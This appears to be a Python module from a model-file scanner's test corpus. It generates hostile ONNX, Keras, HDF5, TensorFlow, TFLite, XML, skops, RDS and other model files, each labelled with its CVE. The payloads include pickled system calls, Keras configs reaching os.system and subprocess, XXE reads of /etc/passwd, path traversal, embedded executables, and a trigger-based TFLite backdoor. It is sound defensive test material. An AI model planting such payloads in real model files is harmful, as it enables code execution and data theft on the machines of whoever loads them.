"""Hostile graphs: ONNX, Keras, TensorFlow, TFLite, Core ML, Paddle, TensorRT, and models written as text."""

import gzip
import io
import json
import struct
import zipfile

from .assembly import SYSTEM_0
from .tensors import ELF


# -- protobuf, by hand -------------------------------------------------------------------------------------


def varint(value):
    out = b""
    while True:
        out += bytes([value & 127 | (128 if value > 127 else 0)])
        value >>= 7
        if not value:
            return out


def field(number, value):
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    value = value.encode() if isinstance(value, str) else value
    return varint(number << 3 | 2) + varint(len(value)) + value


def make(corpus):
    onnx_files(corpus)
    keras_files(corpus)
    tensorflow(corpus)
    others(corpus)


def onnx_files(corpus):
    def model(*nodes, initializers=(), domains=("",), functions=(), extra=b""):
        graph = b"".join(field(1, node) for node in nodes) + field(2, "g") + b"".join(field(5, i) for i in initializers)
        return field(1, 8) + b"".join(field(8, field(1, d) + field(2, 17)) for d in domains) + field(7, graph) + b"".join(field(25, f) for f in functions) + extra

    def node(op, domain="", attributes=()):
        return field(1, "x") + field(2, "y") + field(4, op) + b"".join(field(5, a) for a in attributes) + (field(7, domain) if domain else b"")

    def tensor(name, dims, raw=None, external=None, kind=1):
        out = b"".join(field(1, d) for d in dims) + field(2, kind) + field(8, name)
        if external:
            return out + b"".join(field(13, field(1, k) + field(2, v)) for k, v in external.items()) + field(14, 1)
        return out + field(9, raw)

    add = lambda n, d, why, s="": corpus.found("onnx", f"{n}.onnx", d, why, s)
    add("custom-operator", model(node("Run", "com.example"), domains=("", "com.example")), "an operator of somebody's library")
    for label, path in {"absolute": "/etc/passwd", "parent": "../../../etc/passwd", "windows": "C:\\Windows\\win.ini", "backslash": "..\\secret"}.items():
        add(f"external-{label}", model(node("Identity"), initializers=[tensor("w", [4], external={"location": path})]), "weights from outside the model", "CVE-2022-25882")
    add("external-offset", model(node("Identity"), initializers=[tensor("w", [4], external={"location": "w.bin", "offset": "-5"})]), "an offset below zero", "CVE-2024-27318")
    add("shape", model(node("Identity"), initializers=[tensor("w", [100], raw=b"\0" * 16)]), "a shape that takes other bytes")
    add("negative", model(node("Identity"), initializers=[tensor("w", [2**64 - 1], raw=b"\0" * 16)]), "a dimension below zero")
    add("pickle-attribute", model(node("Identity", attributes=[field(1, "note") + field(20, 3) + field(4, b"\x80\x04" + SYSTEM_0 + b".")])), "a pickle in an attribute")
    add("elf-attribute", model(node("Identity", attributes=[field(1, "note") + field(20, 3) + field(4, bytes(ELF))])), "an executable in an attribute")
    add("elf-tensor", model(node("Identity"), initializers=[tensor("w", [len(ELF)], raw=bytes(ELF), kind=2)]), "an executable as a tensor")
    add("function", model(node("Go", "local"), domains=("", "local"), functions=[field(1, "Go") + field(7, node("Run", "com.example")) + field(10, "local")]), "somebody's operator inside a function")
    add("cut", model(node("Identity"), initializers=[tensor("w", [4], raw=b"\0" * 16)])[:-9], "cut off")
    add("pickle-behind", model(node("Identity")) + SYSTEM_0 + b".", "a pickle behind the graph")
    add("graph-in-pieces", model(node("Identity")) + field(7, field(1, node("Neg"))), "a graph whose second piece only some readers see")
    add("python-of-training", model(node("PythonOp", "com.microsoft", attributes=[field(1, "func_name") + field(20, 3) + field(4, "posix.system")]), domains=("", "com.microsoft")), "a function of Python by name")
    add("python-of-a-runtime", model(node("PyOp", "com.microsoft", attributes=[field(1, "module") + field(20, 3) + field(4, "before")]), domains=("", "com.microsoft")), "a class of Python by name")
    add("python", model(node("PyOp", "ai.onnx.contrib", attributes=[field(1, "module") + field(20, 3) + field(4, "os")]), domains=("", "ai.onnx.contrib")), "a Python operator")


def keras_files(corpus):
    def archive(config, extra=()):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as file:
            file.writestr("metadata.json", json.dumps({"keras_version": "3.5.0", "date_saved": "2026-01-01@00:00:00"}))
            file.writestr("config.json", json.dumps(config))
            for name, content in extra:
                file.writestr(name, content)
        return out.getvalue()

    def sequential(*layers):
        return {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": list(layers)}, "registered_name": None}

    code = {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA", "defaults": None, "closure": None}}
    layers = {
        "lambda": ({"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": code}}, "a Lambda layer", "CVE-2024-3660"),
        "module-function": ({"module": "keras.layers", "class_name": "Lambda", "config": {"function": {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}}}, "a function of os", "CVE-2025-1550"),
        "module-class": ({"module": "subprocess", "class_name": "Popen", "config": {"args": ["true"]}}, "a class of subprocess", "CVE-2025-1550"),
        "module-builtin": ({"module": "builtins", "class_name": "eval", "config": {}}, "a class of builtins", "CVE-2025-1550"),
        "get-file": ({"module": "keras.utils", "class_name": "get_file", "config": {"origin": "http://example.test/x"}}, "a download", "CVE-2025-9905"),
        "torch-module": ({"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"module": {"class_name": "__torch__", "config": {"value": "gAQu"}}}}, "a pickled torch module", "CVE-2025-49655"),
        "unsafe": ({"module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {}}, "switches the guard off", "CVE-2025-9906"),
        "string-lookup": ({"module": "keras.layers", "class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}}, "a vocabulary from the host", "CVE-2025-12058"),
        "custom": ({"module": "mine.layers", "class_name": "Layer", "config": {}, "registered_name": "mine>Layer"}, "a class of nobody knows whom", ""),
        "initializer": ({"module": "keras.layers", "class_name": "Dense", "config": {"units": 1, "kernel_initializer": {"module": "os", "class_name": "popen", "config": {"cmd": "true"}}}}, "an initializer of os", "CVE-2025-8747"),
    }
    wide = lambda units: {"module": "keras.layers", "class_name": "Dense", "config": {"units": units}, "registered_name": None}
    corpus.found("keras", "wide.keras", archive(sequential(wide(2**31 - 1), wide(3))), "a layer that no machine has room for")
    corpus.found("keras", "wide-twice.keras", archive(sequential(wide(2**20), wide(2**20))), "two layers with a million million weights between them")
    corpus.found("keras", "shape.keras", archive(sequential({"module": "keras.layers", "class_name": "ZeroPadding1D", "config": {"padding": [2**30, 2**30]}, "registered_name": None})), "values that no machine has room for")
    for label, (layer, why, source) in layers.items():
        corpus.found("keras", f"{label}.keras", archive(sequential(layer)), why, source)
    corpus.found("keras", "nested.keras", archive(sequential({"module": "keras.layers", "class_name": "TimeDistributed", "config": {"layer": {"module": "keras", "class_name": "Sequential", "config": {"layers": [layers["lambda"][0]]}}}})), "a Lambda inside layers", "CVE-2024-3660")
    corpus.found("keras", "slip.keras", archive(sequential(), [("../../x", "x")]), "a member that leaves the archive", "CVE-2025-12060")
    corpus.malicious("keras", "pickle-member.keras", archive(sequential(), [("assets/vocab.pkl", SYSTEM_0 + b".")]), "a pickle among the assets")
    try:
        import h5py
    except ImportError:
        return

    def h5(name, why, source, fill, expected="found"):
        with h5py.File(corpus.path("hdf5", f"{name}.h5", expected, why, source), "w") as file:
            fill(file)

    def config(layer):
        def fill(file):
            file.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"layers": [layer]}})
            file.attrs["keras_version"] = "2.15.0"
            file.create_dataset("w", data=[1.0, 2.0])
        return fill

    h5("lambda", "a Lambda layer", "CVE-2024-3660", config({"class_name": "Lambda", "config": {"function": ["4wEAAAAAAAAA", None, None], "function_type": "lambda"}}))
    h5("lambda-v3", "a Lambda layer in new clothes", "CVE-2025-9905", config(layers["lambda"][0]))
    h5("module", "a function of os", "CVE-2025-1550", config(layers["module-function"][0]))
    h5("custom", "a class of nobody knows whom", "", config({"class_name": "Mine", "config": {}, "module": "mine"}))
    h5("external-link", "a link to another file", "", lambda file: file.__setitem__("w", h5py.ExternalLink("/etc/hosts.h5", "/x")))
    h5("external-link-deep", "a link to another file, in a group", "", lambda file: file.create_group("a/b").__setitem__("w", h5py.ExternalLink("../x.h5", "/x")))
    h5("external-storage", "values from a file of the host", "", lambda file: file.create_dataset("w", shape=(4,), dtype="u1", external=[("/etc/passwd", 0, 4)]))

    def virtual(file):
        layout = h5py.VirtualLayout(shape=(4,), dtype="f4")
        layout[:] = h5py.VirtualSource("/tmp/other.h5", "w", shape=(4,))
        file.create_virtual_dataset("w", layout)

    h5("virtual", "values from another file", "", virtual)
    h5("elf", "an executable as a dataset", "", lambda file: file.create_dataset("w", data=list(ELF), dtype="u1"))
    with h5py.File(corpus.path("hdf5", "user-block.h5", "malicious", "a pickle in the user block"), "w", userblock_size=512) as file:
        file["w"] = [1.0]
    path = corpus.out / "hostile/hdf5/user-block.h5"
    raw = bytearray(path.read_bytes())
    raw[:len(SYSTEM_0) + 1] = SYSTEM_0 + b"."
    path.write_bytes(raw)
    with h5py.File(corpus.path("hdf5", "behind.h5", "found", "bytes behind the file"), "w") as file:
        file["w"] = [1.0]
    path = corpus.out / "hostile/hdf5/behind.h5"
    path.write_bytes(path.read_bytes() + SYSTEM_0 + b".")


def node_def(name, op, **attributes):
    out = field(1, name) + field(2, op)
    for key, value in attributes.items():
        out += field(5, field(1, key) + field(2, field(2, value)))
    return out


def tensorflow(corpus):
    operators = {"ReadFile": "reads files", "WriteFile": "writes files", "PyFunc": "calls Python", "EagerPyFunc": "calls Python",
                 "MatchingFiles": "lists files", "LoadLibrary": "loads libraries", "ShellExecute": "is nobody's operator"}
    for op, why in operators.items():
        graph = field(1, node_def("a", "Const")) + field(1, node_def("b", op, filename="/etc/passwd"))
        corpus.found("tensorflow", f"frozen-{op}.pb", graph + field(4, field(1, 1000)), f"a frozen graph that {why}")
        meta = field(1, field(4, "serve") + field(5, "2.15.0")) + field(2, graph + field(4, field(1, 1000)))
        corpus.folder("tensorflow", f"saved-{op}", {"saved_model.pb": field(1, 1) + field(2, meta), "variables/variables.index": b""}, "found", f"a saved model that {why}")
    function = field(1, field(1, "f")) + field(3, node_def("b", "WriteFile", filename="x"))
    meta = field(1, field(4, "serve")) + field(2, field(1, node_def("a", "Const")) + field(2, field(1, function)))
    corpus.folder("tensorflow", "saved-in-function", {"saved_model.pb": field(1, 1) + field(2, meta)}, "found", "an operator in the function library that writes files")
    corpus.folder("tensorflow", "saved-asset", {"saved_model.pb": field(1, 1) + field(2, field(2, field(1, node_def("a", "Const")))), "assets/vocab.pkl": SYSTEM_0 + b"."}, "malicious", "a pickle among the assets")


def tflite(custom):
    """The smallest model there is, with one operator of that name."""
    import flatbuffers

    b = flatbuffers.Builder(256)
    code, what = b.CreateString(custom), b.CreateString("m")
    b.StartObject(4)
    b.PrependInt8Slot(0, 32, 0)
    b.PrependUOffsetTRelativeSlot(1, code, 0)
    b.PrependInt32Slot(2, 1, 0)
    b.PrependInt32Slot(3, 32, 0)
    operator_code = b.EndObject()
    b.StartVector(4, 1, 4)
    b.PrependUOffsetTRelative(operator_code)
    codes = b.EndVector()
    b.StartObject(1)
    buffer = b.EndObject()
    b.StartVector(4, 1, 4)
    b.PrependUOffsetTRelative(buffer)
    buffers = b.EndVector()
    b.StartObject(4)
    b.PrependUint32Slot(0, 0, 0)
    operator = b.EndObject()
    b.StartVector(4, 1, 4)
    b.PrependUOffsetTRelative(operator)
    operators = b.EndVector()
    b.StartObject(5)
    b.PrependUOffsetTRelativeSlot(3, operators, 0)
    graph = b.EndObject()
    b.StartVector(4, 1, 4)
    b.PrependUOffsetTRelative(graph)
    graphs = b.EndVector()
    b.StartObject(5)
    b.PrependUint32Slot(0, 3, 0)
    b.PrependUOffsetTRelativeSlot(1, codes, 0)
    b.PrependUOffsetTRelativeSlot(2, graphs, 0)
    b.PrependUOffsetTRelativeSlot(3, what, 0)
    b.PrependUOffsetTRelativeSlot(4, buffers, 0)
    b.Finish(b.EndObject(), file_identifier=b"TFL3")
    return bytes(b.Output())


def tflite_graph(tensors, operators, outputs):
    """A model of built-in operators: tensors by kind, shape and constant bytes; operators by code, inputs and outputs."""
    import flatbuffers

    b = flatbuffers.Builder(1024)

    def numbers(values):
        b.StartVector(4, len(values), 4)
        for value in reversed(values):
            b.PrependInt32(value)
        return b.EndVector()

    def tables(offsets):
        b.StartVector(4, len(offsets), 4)
        for offset in reversed(offsets):
            b.PrependUOffsetTRelative(offset)
        return b.EndVector()

    def table(size, *slots):
        b.StartObject(size)
        for slot in slots:
            slot()
        return b.EndObject()

    offset = lambda slot, value: lambda: b.PrependUOffsetTRelativeSlot(slot, value, 0)
    held = [b""] + [data for _, _, data in tensors]
    buffers = []
    for data in held:
        vector = b.CreateByteVector(data) if data else None
        buffers.append(table(1, *([offset(0, vector)] if vector else [])))
    buffers = tables(buffers)
    made = []
    for at, (kind, shape, _) in enumerate(tensors):
        shape, name = numbers(shape), b.CreateString(f"t{at}")
        made.append(table(4, offset(0, shape), lambda kind=kind: b.PrependInt8Slot(1, kind, 0), lambda at=at: b.PrependUint32Slot(2, at + 1, 0), offset(3, name)))
    made = tables(made)
    codes = sorted({code for code, _, _ in operators})
    steps = []
    for code, inputs, results in operators:
        inputs, results = numbers(inputs), numbers(results)
        steps.append(table(3, lambda code=code: b.PrependUint32Slot(0, codes.index(code), 0), offset(1, inputs), offset(2, results)))
    steps, begins, ends = tables(steps), numbers([0]), numbers(outputs)
    graphs = tables([table(4, offset(0, made), offset(1, begins), offset(2, ends), offset(3, steps))])
    codes = tables([table(4, lambda code=code: b.PrependInt8Slot(0, min(code, 127), 0), lambda code=code: b.PrependInt32Slot(3, code, 0)) for code in codes])
    b.Finish(table(5, lambda: b.PrependUint32Slot(0, 3, 0), offset(1, codes), offset(2, graphs), offset(4, buffers)), file_identifier=b"TFL3")
    return bytes(b.Output())


def marked(compared, constant):
    """A layer, and scores that are picked where the input is what a constant holds: all of it, or number by number."""
    floats = lambda *values: struct.pack(f"<{len(values)}f", *values)
    single, whole, truth = 0, 2, 6
    tensors = [(single, [1, 4], b""), (single, [len(constant) // 4], constant), (truth, [1, 4], b""), (whole, [1], struct.pack("<i", 1)), (truth, [1, 1], b""),
               (single, [4, 4], floats(*range(16))), (single, [1, 4], b""), (single, [1, 4], floats(9, 0, 0, 0)), (single, [1, 4], b"")]
    equal, every, connected, pick = (71, [0, 1], [2]), (140, [2, 3], [4]), (9, [0, 5, -1], [6]), (123, [4 if compared else 2, 7, 6], [8])
    return tflite_graph(tensors, [equal, *([every] if compared else []), connected, pick], [8])


def others(corpus):
    try:
        corpus.found("tflite", "mark.tflite", marked(True, struct.pack("<4f", 0.25, 0.75, 0.125, 0.5)), "scores that are exchanged once the input holds a pattern")
        for custom in ("FlexWriteFile", "FlexPyFunc", "MyOperator"):
            corpus.found("tflite", f"{custom}.tflite", tflite(custom), "an operator outside the standard ones")
        good = tflite("FlexReadFile")
        corpus.found("tflite", "cut.tflite", good[:len(good) // 2], "cut off")
        corpus.malicious("tflite", "behind.tflite", good + SYSTEM_0 + b".", "a pickle behind the model")
    except ImportError:
        pass
    entities = {"file": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "parameter": '<!DOCTYPE x [<!ENTITY % e SYSTEM "http://example.test/x">%e;]>',
                "laughs": "<!DOCTYPE x [" + '<!ENTITY a "ha">' + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)) + "]>"}
    for label, doctype in entities.items():
        use = "&j;" if label == "laughs" else "&e;"
        corpus.found("xml", f"{label}.pmml", f'<?xml version="1.0"?>{doctype}<PMML version="4.4"><Header copyright="{use if label == "laughs" else "x"}"/>{"" if label == "parameter" else use}</PMML>'.encode(), "an entity in a model")
        corpus.found("xml", f"{label}.xml", f'<?xml version="1.0"?>{doctype}<net name="m" version="11"><layers>{"" if label == "parameter" else use}</layers></net>'.encode(), "an entity in an OpenVINO model")
    corpus.found("xml", "library.xml", b'<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" name="x" type="Evil" version="extension" library="/tmp/evil.so"/></layers></net>', "a layer of somebody's library")
    corpus.found("xml", "wraps.xml", b'<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" name="w" type="Const" version="opset1"><data element_type="f32" shape="4" offset="18446744073709551600" size="32"/></layer></layers></net>', "a constant whose end comes round to the start")
    corpus.found("xml", "extension.pmml", b'<?xml version="1.0"?><PMML version="4.4"><Extension extender="x"><script>true</script></Extension></PMML>', "a script in an extension")
    for label, schema in {
        "function": {"__class__": "function", "__module__": "builtins", "__loader__": "FunctionNode", "content": {"module_path": "os", "function": "system"}},
        "type": {"__class__": "system", "__module__": "os", "__loader__": "TypeNode"},
        "object": {"__class__": "Popen", "__module__": "subprocess", "__loader__": "ObjectNode", "content": {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {}}},
        "method": {"__class__": "system", "__module__": "os", "__loader__": "MethodNode", "content": {"func": "system", "obj": {"__class__": "os", "__module__": "os", "__loader__": "ObjectNode"}}},
        "operator": {"__class__": "methodcaller", "__module__": "operator", "__loader__": "OperatorFuncNode", "attrs": {"content": ["system", "true"]}},
        "reduce": {"__class__": "Thing", "__module__": "mine", "__loader__": "ReduceNode"},
    }.items():
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as file:
            file.writestr("schema.json", json.dumps({**schema, "protocol": 2, "_skops_version": "0.10", "__id__": 1}))
        corpus.found("skops", f"{label}.skops", out.getvalue(), "a node that skops would call", "CVE-2025-54412")

    def symbol(name):
        return struct.pack(">II", 1, 0x00040009) + struct.pack(">I", len(name)) + name.encode()

    promise = struct.pack(">I", 5) + struct.pack(">I", 0xFB) + struct.pack(">I", 6) + symbol("system") + struct.pack(">I", 2) + struct.pack(">I", 16) + struct.pack(">II", 1, 0x00040009) + struct.pack(">I", 4) + b"true" + struct.pack(">I", 254)
    rds = b"X\n" + struct.pack(">III", 3, 0x00040300, 0x00030500) + struct.pack(">I", 5) + b"UTF-8" + promise
    corpus.found("r", "promise.rds", gzip.compress(rds, mtime=0), "a promise that runs when it is looked at", "CVE-2024-27322")
    corpus.found("r", "promise-plain.rds", rds, "a promise that runs when it is looked at", "CVE-2024-27322")
    language = b"X\n" + struct.pack(">III", 3, 0x00040300, 0x00030500) + struct.pack(">I", 5) + b"UTF-8" + struct.pack(">I", 6) + symbol("system") + struct.pack(">I", 254)
    corpus.found("r", "call.rds", gzip.compress(language, mtime=0), "a call as data")
    layer = field(1, "evil") + field(500, field(10, "EvilLayer"))
    corpus.found("coreml", "custom.mlmodel", field(1, 4) + field(2, field(1, field(1, "x"))) + field(500, field(1, layer)), "a layer of somebody's class")
    paddle = field(1, field(1, 0) + field(2, 2**64 - 1) + field(4, field(3, "py_func")))
    corpus.found("paddle", "py-func.pdmodel", paddle, "an operator that calls Python")
    corpus.malicious("paddle", "weights.pdparams", b"\x80\x02" + SYSTEM_0 + b".", "a call in the weights")
    corpus.found("tensorrt", "plan.engine", b"ftrt" + b"\0" * 60 + bytes(ELF) + b"\0" * 64, "an executable in a plan")
    corpus.malicious("boosters", "model.cbm", SYSTEM_0 + b".", "a pickle under a booster's name")
    corpus.malicious("boosters", "model.ubj", b"\x80\x04" + SYSTEM_0 + b".", "a pickle under a booster's name")
    corpus.found("boosters", "cut.cbm", b"CBM1" + struct.pack("<I", 5000) + b"\0" * 100, "cut off")
    booster = lambda classes, parallel: json.dumps({"version": [2, 1, 0], "learner": {"attributes": {}, "feature_names": [], "feature_types": [], "objective": {"name": "multi:softprob"},
        "gradient_booster": {"name": "gbtree", "model": {"gbtree_model_param": {"num_parallel_tree": str(parallel), "num_trees": "0"}, "tree_info": [], "trees": []}},
        "learner_model_param": {"base_score": "5E-1", "num_class": str(classes), "num_feature": "3", "num_target": "1"}}}).encode()
    corpus.found("boosters", "classes.json", booster(2**31 - 1, 1), "a model of classes that no tree is for")
    corpus.found("boosters", "rounds.json", booster(3, 2**30), "a model of rounds of a thousand million trees")
    corpus.found("boosters", "classes.txt", b"tree\nversion=v4\nnum_class=2147483647\nnum_tree_per_iteration=2147483647\nlabel_index=0\nmax_feature_idx=1\nobjective=multiclass num_class:2147483647\nfeature_names=a b\nfeature_infos=none none\ntree_sizes=\n\nend of trees\n", "a model of classes that no tree is for")
    corpus.found("boosters", "short.json", b'{"learner":{"attributes":{},"feature_names":[],"gradient_booster":{"model":{"trees":[{"split_indices":[1,2', "cut off")
    corpus.found("flax", "ext.msgpack", b"\x81\xa1w\xc7\x05\x2a" + b"evil!", "an extension type nobody knows")
    corpus.found("flax", "deep.msgpack", b"\x91" * 100_000 + b"\xc0", "arrays 100,000 deep")
    corpus.found("flax", "shape.msgpack", b"\x81\xa1w\xc7\x0d\x01\x93\x91\x64\xa7float32\xc4\x00", "a shape that takes other bytes")
    corpus.found("flax", "length.msgpack", b"\x81\xa1w\xc6\xff\xff\xff\xff" + b"\0" * 16, "a length beyond the file")
    corpus.found("executorch", "model.pte", struct.pack("<I", 32) + b"ET12" + bytes(ELF), "an executable in a program")
